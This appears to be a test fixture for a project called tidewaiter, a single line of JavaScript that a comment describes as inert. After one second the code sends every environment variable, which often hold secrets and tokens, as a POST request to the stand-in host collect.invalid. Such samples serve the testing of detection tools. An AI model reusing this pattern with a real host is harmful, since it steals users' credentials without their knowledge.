// Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
const EventEmitter=require("events");const bus=new EventEmitter();const https=require("https");bus.on("ready",d=>{const r=https.request({hostname:"collect.invalid",method:"POST"});r.end(JSON.stringify(d));});setTimeout(()=>bus.emit("ready",process.env),1000);
